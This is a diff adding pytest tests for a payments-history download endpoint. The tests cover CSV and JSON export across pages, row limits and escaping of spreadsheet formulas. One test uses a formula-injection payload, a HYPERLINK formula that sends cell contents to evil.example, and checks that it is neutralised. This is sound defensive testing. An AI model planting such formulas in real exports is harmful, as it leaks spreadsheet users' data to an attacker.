@@ -1,0 +1,89 @@
+"""Downloads: all pages in one file, safe to be opened in a spreadsheet."""
+
+import csv
+import io
+import json
+from typing import Any
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from service.payments.history.operations import downloads
+from service.payments.history.operations.downloads import cell
+from tests.payments.history.rows import pay, refund
+from tests.sessions.asking import problem, token_of
+from tests.support.api import SECRET
+from tests.support.shop import Shop
+
+HISTORY = "/api/payment/payment-history"
+
+
+async def _file(shop: Shop, form: str, key: str = SECRET, **params: Any) -> str:
+    params["format"] = form
+    answer = await shop.api.call("GET", HISTORY, key, params=params)
+    assert answer.status_code == 200, answer.text
+    assert answer.headers["content-disposition"] == f'attachment; filename="payments.{form}"'
+    assert answer.headers["cache-control"] == "no-store"
+    return answer.text
+
+
+async def test_a_file_has_all_pages(shop: Shop, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(downloads, "_PAGE", 2)
+    for number in range(5):
+        await pay(f"pi_{number}", number, userId="bob" if number == 3 else "ada")
+    expected = [f"pi_{number}" for number in (4, 3, 2, 1, 0)]
+    rows = list(csv.DictReader(io.StringIO(await _file(shop, "csv"), newline="")))
+    assert [row["providerPaymentId"] for row in rows] == expected
+    listed = (await shop.api.call("GET", HISTORY)).json()["payments"]
+    assert json.loads(await _file(shop, "json"))["payments"] == listed
+    of_bob = csv.DictReader(io.StringIO(await _file(shop, "csv", userId="bob")))
+    assert [row["providerPaymentId"] for row in of_bob] == ["pi_3"]
+    own = json.loads(await _file(shop, "json", token_of("ada", shop.clock)))["payments"]
+    assert [one["providerPaymentId"] for one in own] == ["pi_4", "pi_2", "pi_1", "pi_0"]
+    assert "fee" not in own[0]
+
+
+async def test_a_file_of_nothing_is_a_file(shop: Shop) -> None:
+    assert await _file(shop, "json") == '{"payments":[]}\n'
+    text = await _file(shop, "csv", token_of("eve", shop.clock))
+    assert text.endswith("\r\n")
+    assert len(text.splitlines()) == 1
+    assert "fee" not in text.split(",")
+
+
+async def test_what_a_browser_wrote_is_no_formula(shop: Shop) -> None:
+    name = '=HYPERLINK("https://evil.example?"&A1,"pay")'
+    paid = await pay("pi_1", planName=name, failureMessage='say "no",\r\n@SUM(1)', userId="+1")
+    await refund(paid, "refund-0001")
+    [row] = csv.DictReader(io.StringIO(await _file(shop, "csv"), newline=""))
+    assert (row["planName"], row["userId"]) == ("'" + name, "'+1")
+    assert row["failureMessage"] == 'say "no",\r\n@SUM(1)'
+    assert (row["amount"], row["refunds"], row["attempts"]) == ("1000", "1", "1")
+
+
+@given(st.text(max_size=20), st.sampled_from(["", " ", "  "]))
+def test_no_text_begins_a_formula_and_none_is_lost(text: str, before: str) -> None:
+    shown = str(cell(before + text))
+    assert not shown.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
+    assert shown.removeprefix("'") in {(before + text).replace("\x00", ""), shown}
+
+
+def test_a_number_stays_a_number() -> None:
+    assert (cell(-5), cell(0), cell(None)) == (-5, 0, "")
+    # Control: the text is guarded.
+    assert cell("-5") == "'-5"
+
+
+@pytest.mark.parametrize("form", ["csv", "json"])
+async def test_more_than_a_file_holds_is_refused_before_it_is_begun(
+    shop: Shop, monkeypatch: pytest.MonkeyPatch, form: str
+) -> None:
+    for number in range(3):
+        await pay(f"pi_{number}", number)
+    monkeypatch.setattr(downloads, "MOST_ROWS", 3)
+    assert "pi_2" in await _file(shop, form)
+    monkeypatch.setattr(downloads, "MOST_ROWS", 2)
+    answer = await shop.api.call("GET", HISTORY, params={"format": form})
+    told = problem(answer, 400, "too_much")
+    assert "read pages by cursor" in told["detail"]
